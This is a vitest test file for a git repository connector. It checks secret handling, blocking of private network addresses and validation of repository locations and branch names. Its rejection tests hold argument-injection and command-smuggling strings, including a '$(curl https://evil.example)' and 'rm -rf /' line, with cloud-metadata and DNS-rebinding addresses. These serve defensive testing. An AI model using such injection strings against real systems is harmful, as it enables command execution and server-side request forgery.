import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { baseEnvironment, remoteEnvironment } from "../../../kb/sources/git-environment.js";
import { readGitPlace } from "../../../kb/sources/git-options.js";
import { createGitSource } from "../../../kb/sources/git-source.js";
import type { GitSourceSettings } from "../../../kb/sources/git-source.js";
import { createPageAddress } from "../../../kb/sources/git-web-url.js";
import { createAddressPolicy } from "../../../kb/sources/http/address-policy.js";
import { openSource, checkSourceRecord } from "../../../kb/sources/open-source.js";
import type { Source } from "../../../kb/sources/source.js";
import { serveGit, testRepository } from "../../support/git-repository.js";
import { silentLogger } from "../../support/silent-logger.js";

const signal = new AbortController().signal;
const SECRET = "ghp_0123456789abcdefghij";

let directory: string;
beforeEach(() => {
  directory = mkdtempSync(path.join(tmpdir(), "deskhand-clone-"));
});
afterEach(() => rmSync(directory, { recursive: true, force: true }));

const placeOf = (location: string, options: Record<string, unknown> = {}) =>
  readGitPlace({ name: "docs", kind: "git", location, options });

function sourceOf(location: string, settings: Partial<GitSourceSettings> = {}): Source {
  return createGitSource(placeOf(location), {
    directory: path.join(directory, "clone"),
    secret: null,
    environment: baseEnvironment(process.env),
    policy: createAddressPolicy(["127.0.0.1", "git.example.internal"]),
    ...settings,
  });
}

/** A PATH on which every call of `git` and `ssh` is written down, before the real one takes it. */
function spiedPath(
  program: string,
  then: string,
): { readonly environment: GitSourceSettings["environment"]; calls(): string } {
  const folder = path.join(directory, "bin");
  const log = path.join(directory, "calls");
  mkdirSync(folder, { recursive: true });
  writeFileSync(log, "");
  writeFileSync(path.join(folder, program), `#!/bin/sh\nprintf '%s\\n' "$0" "$@" >> '${log}'\n${then}\n`);
  chmodSync(path.join(folder, program), 0o755);
  const environment = baseEnvironment({ ...process.env, PATH: `${folder}:${process.env["PATH"] ?? ""}` });
  return { environment, calls: () => readFileSync(log, "utf8") };
}

const bytesOf = async (source: Source, externalId: string): Promise<string> => {
  const item = await source.fetch({ externalId, revision: null, known: null }, signal);
  return item === "unchanged" ? item : Buffer.from(item.bytes).toString("utf8");
};

describe("a git repository of 2,000 files", () => {
  it("is listed without reading a file or the history", async () => {
    const files = Object.fromEntries(
      Array.from({ length: 2_000 }, (_, index) => [`${index % 40}/${index}.md`, `${index}`]),
    );
    using repository = testRepository(files);
    const spy = spiedPath("git", `PATH='${process.env["PATH"] ?? ""}' exec git "$@"`);
    const source = sourceOf(repository.location, { environment: spy.environment });

    const { items } = await source.list(null, signal);
    const whileListing = spy.calls().split("\n");
    await expect(bytesOf(source, "7/7.md")).resolves.toBe("7");
    const afterwards = spy.calls().split("\n");

    expect(items).toHaveLength(2_000);
    expect(whileListing.filter((word) => word === "log" || word === "cat-file")).toEqual([]);
    expect(afterwards.filter((word) => word === "log" || word === "cat-file").sort()).toEqual(["cat-file", "log"]);
  });
});

describe("a git repository over HTTP", () => {
  it("is read with the secret, which is in no argument, no file and no message", async () => {
    using repository = testRepository({ "a.md": "A", "b.md": "B" });
    await using server = await serveGit(path.dirname(repository.location), `x-access-token:${SECRET}`);
    const spy = spiedPath("git", `PATH='${process.env["PATH"] ?? ""}' exec git "$@"`);
    const source = sourceOf(`${server.address}/repository`, { secret: SECRET, environment: spy.environment });

    const listing = await source.list(null, signal);

    expect(listing.items.map(({ externalId }) => externalId)).toEqual(["a.md", "b.md"]);
    await expect(bytesOf(source, "b.md")).resolves.toBe("B");
    expect(spy.calls()).toContain("ls-remote");
    const encoded = Buffer.from(`x-access-token:${SECRET}`).toString("base64");
    for (const text of [spy.calls(), readFileSync(path.join(directory, "clone/config"), "utf8")]) {
      expect(text).not.toContain(SECRET);
      expect(text).not.toContain(encoded);
    }
  });

  it("fetches what many files hold with one request", async () => {
    const files = Object.fromEntries(Array.from({ length: 60 }, (_, index) => [`${index}.md`, `Text ${index}`]));
    using repository = testRepository(files);
    await using server = await serveGit(path.dirname(repository.location));
    const source = sourceOf(`${server.address}/repository`);
    const { items } = await source.list(null, signal);
    const before = server.paths.length;

    const texts = await Promise.all(items.slice(0, 48).map(({ externalId }) => bytesOf(source, externalId)));
    const rest = await Promise.all(items.slice(48).map(({ externalId }) => bytesOf(source, externalId)));

    expect([...texts, ...rest].sort()).toEqual(Object.values(files).sort());
    // One to agree on the protocol, one or two for the contents of all.
    expect(server.paths.length - before).toBeLessThanOrEqual(3);
  });

  it("says what to do when the secret is wrong or missing, without telling it", async () => {
    using repository = testRepository({ "a.md": "A" });
    await using server = await serveGit(path.dirname(repository.location), "user:right");
    for (const secret of [null, "user:wrong", SECRET]) {
      const listing = sourceOf(`${server.address}/repository`, { secret }).list(null, signal);
      const error = await listing.catch((reason: unknown) => reason);
      expect(error).toMatchObject({ code: "source-unavailable" });
      const text = [String(error), String((error as Error).cause)].join();
      expect(text).toContain("refused access");
      expect(text).not.toMatch(/wrong|ghp_/u);
    }
  });

  it("says that nothing is there, that nobody answers, and that a redirect is not followed", async () => {
    using repository = testRepository({ "a.md": "A" });
    const server = await serveGit(path.dirname(repository.location));
    const words = (name: string) =>
      sourceOf(`${server.address}/${name}`, { secret: SECRET }).list(null, signal).catch(String);
    const missing = await words("missing");
    const before = server.paths.length;
    const moved = await words("moved");
    const paths = server.paths.slice(before);
    await server[Symbol.asyncDispose]();

    expect(missing).toContain("There is no repository there");
    expect(moved).toContain("leads to another one");
    expect(paths).toEqual([expect.stringMatching(/^\/moved\//u)]);
    await expect(words("repository")).resolves.toContain("cannot be reached");
  });

  it("is asked at the address that was checked, whatever the name means a moment later", async () => {
    using repository = testRepository({ "a.md": "A" });
    await using server = await serveGit(path.dirname(repository.location));
    const port = new URL(server.address).port;
    const resolve = () => Promise.resolve(["127.0.0.1"]);
    // No name server knows this name: only the address that was handed over leads anywhere.
    const source = sourceOf(`http://git.example.internal:${port}/repository`, { resolve });
    await expect(source.list(null, signal)).resolves.toMatchObject({ items: [{ externalId: "a.md" }] });
  });

  it.each([
    ["https://127.0.0.1/x", []],
    ["https://[::1]/x", []],
    ["https://2130706433/x", []],
    ["https://localhost/x", []],
    ["https://metadata.example/x", ["169.254.169.254"]],
    ["https://rebinding.example/x", ["93.184.216.34", "10.0.0.1"]],
    ["ssh://git@inner.example/x", ["192.168.0.1"]],
    ["git@inner.example:x", ["fd00::1"]],
  ])("at %s, an address of a private network, is not asked", async (location, addresses) => {
    const spy = spiedPath("git", "exit 1");
    const settings = { policy: createAddressPolicy([]), resolve: () => Promise.resolve(addresses) };
    const listing = sourceOf(location, { ...settings, environment: spy.environment }).list(null, signal);
    await expect(listing).rejects.toMatchObject({
      code: "source-unavailable",
      message: expect.stringContaining("allowed private hosts") as string,
    });
    expect(spy.calls()).toBe("");
  });

  it("in the clear is for places of one's own alone", async () => {
    const settings = { resolve: () => Promise.resolve(["93.184.216.34"]) };
    await expect(sourceOf("http://git.example/x", settings).list(null, signal)).rejects.toMatchObject({
      message: expect.stringContaining("Write https") as string,
    });
  });
});

describe("a git repository over SSH", () => {
  it("is asked at the checked address, with the host's own key and without questions", async () => {
    using repository = testRepository({ "a.md": "A" });
    const spy = spiedPath("ssh", `exec git-upload-pack '${repository.location}'`);
    const execPath = repository.git("--exec-path").trim();
    const environment = { ...spy.environment, PATH: `${spy.environment["PATH"] ?? ""}:${execPath}` };
    const settings = { environment, resolve: () => Promise.resolve(["93.184.216.34"]) };

    const source = sourceOf("ssh://git@git.example:2222/team/docs.git", settings);

    await expect(source.list(null, signal)).resolves.toMatchObject({ items: [{ externalId: "a.md" }] });
    const args = spy.calls().split("\n");
    expect(args).toContain("-oHostName=93.184.216.34");
    expect(args).toContain("-oHostKeyAlias=[git.example]:2222");
    expect(args).toContain("-oBatchMode=yes");
    expect(args).toContain("git-upload-pack '/team/docs.git'");
  });
});

describe("the record of a git source", () => {
  it.each([
    "--upload-pack=touch pwned",
    "-oProxyCommand=touch pwned",
    "ext::sh -c touch% pwned",
    "fd::17",
    "ssh://-oProxyCommand=touch/x",
    "ssh://git@-oProxyCommand=touch/x",
    "git@-oProxyCommand=touch:x",
    "-x@host:y",
    "git://host/x",
    "ftp://host/x",
    "javascript:alert(1)",
    "https://user:password@host/x",
    "https://host/x?token=1",
    "https://host/",
    "ssh://git:password@host/x",
    "file://host/x",
    "relative/path",
    "",
    "https://host/a\nb",
    "git@host\u0000:x",
    "sync $(curl https://evil.example) `id` ; rm -rf / && x",
  ])("is refused with the location %j", (location) => {
    expect(() => placeOf(location)).toThrow(expect.objectContaining({ code: "usage" }));
  });

  it("is refused with every problem named at once", () => {
    const options = {
      branch: "--upload-pack=touch pwned",
      path: "../outside",
      include: [""],
      webUrl: "javascript:{path}",
      depth: "many",
      Branch: "x",
    };
    expect(() => placeOf("ext::sh", options)).toThrow(
      /location: .*branch: .*path: .*include.*webUrl: .*depth: .*"Branch"/su,
    );
  });

  it.each([
    "-x",
    "a..b",
    "a b",
    "a~1",
    "a:b",
    "@",
    "a@{1}",
    "a.lock",
    "/a",
    "a/",
    "a\\b",
    "a*",
    "$(id)".replace("$", "^"),
  ])("is refused with the branch %j", (branch) => {
    expect(() => placeOf("/x", { branch })).toThrow(/branch/u);
  });

  it("takes a path that looks like an option or a pattern for what it is", async () => {
    using repository = testRepository({ "--output=x/a.md": "A", ":(top)/b.md": "B", "*/c.md": "C" });
    for (const [folder, file] of [
      ["--output=x", "--output=x/a.md"],
      [":(top)", ":(top)/b.md"],
      ["*", "*/c.md"],
    ] as const) {
      const place = placeOf(repository.location, { path: folder });
      const source = createGitSource(place, {
        directory: path.join(directory, "clone"),
        secret: null,
        environment: baseEnvironment(process.env),
        policy: createAddressPolicy([]),
      });
      const { items } = await source.list(null, signal);
      expect(items.map(({ externalId }) => externalId)).toEqual([file]);
      await expect(source.fetch({ externalId: file, revision: null, known: null }, signal)).resolves.toMatchObject({
        facts: { editedBy: "Author" },
      });
    }
  });

  it.each([
    ["https://github.com/acme/docs.git", {}, "https://github.com/acme/docs/blob/main/a%20b/c.md"],
    ["git@github.com:acme/docs.git", {}, "https://github.com/acme/docs/blob/main/a%20b/c.md"],
    ["https://gitlab.com/acme/sub/docs", {}, "https://gitlab.com/acme/sub/docs/-/blob/main/a%20b/c.md"],
    ["ssh://git@gitlab.acme.example:2222/docs", {}, "https://gitlab.acme.example/docs/-/blob/main/a%20b/c.md"],
    ["https://bitbucket.org/acme/docs", {}, "https://bitbucket.org/acme/docs/src/main/a%20b/c.md"],
    ["https://codeberg.org/acme/docs", {}, "https://codeberg.org/acme/docs/src/branch/main/a%20b/c.md"],
    ["https://git.acme.example/docs", {}, null],
    ["/srv/docs", { webUrl: "https://x.example/{branch}/{path}" }, "https://x.example/main/a%20b/c.md"],
    ["/srv/docs", { webUrl: "https://x.example/{page}", path: "a b" }, "https://x.example/c"],
    ["/srv/docs", { webUrl: "https://x.example/{relative}", path: "a b" }, "https://x.example/c.md"],
  ])("of %s with %j gives its documents the address %s", (location, options, address) => {
    expect(createPageAddress(placeOf(location, options), "main")("a b/c.md")).toBe(address);
  });
});

describe("the kind git", () => {
  const services = {
    secretOf: () => null as string | null,
    workDirectory: path.join(tmpdir(), "deskhand-git-work"),
    fetch: () => Promise.reject(new Error("no network is needed")),
    allowedPrivateHosts: [],
    machine: process.env,
    database: { withTenant: () => Promise.reject(new Error("no database is needed")) },
    logger: silentLogger,
  };
  const record = (location: string) => ({ name: "docs", kind: "git", location, options: {} }) as const;

  it("finds git by what it is told of the machine, and by nothing else", async () => {
    const elsewhere = { ...services, machine: { PATH: "/nowhere" } };
    await expect(checkSourceRecord(record("https://git.example/docs"), elsewhere)).rejects.toMatchObject({
      message: expect.stringContaining("git is not there") as string,
    });
  });

  it("is checked without asking the remote", async () => {
    await expect(checkSourceRecord(record("https://github.com/acme/none.git"), services)).resolves.toBeUndefined();
    await expect(checkSourceRecord(record("/nowhere/at/all"), services)).rejects.toMatchObject({ code: "usage" });
  });

  it.each([
    ["https://github.com/acme/docs.git", "two words"],
    ["https://github.com/acme/docs.git", "a\r\nX-Other: b"],
  ])("refuses for %s a secret that cannot be sent", async (location, secret) => {
    const withSecret = { ...services, secretOf: () => secret };
    await expect(checkSourceRecord(record(location), withSecret)).rejects.toMatchObject({
      code: "usage",
      message: expect.not.stringContaining(secret) as string,
    });
    const place = { ...withSecret, tenantId: "default", sourceId: "x" };
    await expect(openSource(record(location), place)).rejects.toMatchObject({ code: "source-unavailable" });
  });

  it.each(["git@github.com:acme/docs.git", "ssh://git@github.com/acme/docs.git", "/srv/docs.git"])(
    "keeps a secret for webhooks to itself at %s",
    async (location) => {
      const access = { policy: createAddressPolicy([]), resolve: () => Promise.resolve(["93.184.216.34"]) };
      const { remote } = placeOf(location);
      const environment = await remoteEnvironment({}, { ...access, remote, secret: SECRET });
      expect(Object.values(environment).join()).not.toMatch(/Authorization|ghp_/u);
    },
  );

  it("gives git nothing of the environment but what it needs", async () => {
    const base = baseEnvironment({ PATH: "/bin", SOURCE_DOCS_SECRET: SECRET, GIT_TRACE: "1", GIT_SSH_COMMAND: "x" });
    const access = { secret: null, policy: createAddressPolicy([]), resolve: () => Promise.resolve(["93.184.216.34"]) };
    const remote = placeOf("https://github.com/acme/docs.git").remote;
    const environment = await remoteEnvironment(base, { ...access, remote });
    expect(Object.keys(environment).filter((name) => !/^(?:GIT_CONFIG_|GIT_|LC_ALL|PATH)/u.test(name))).toEqual([]);
    expect(environment).toMatchObject({ GIT_ALLOW_PROTOCOL: "https", GIT_TERMINAL_PROMPT: "0" });
    expect(environment["GIT_TRACE"] ?? environment["GIT_SSH_COMMAND"]).toBeUndefined();
    expect(Object.values(environment)).toContain("github.com:443:93.184.216.34");
  });
});
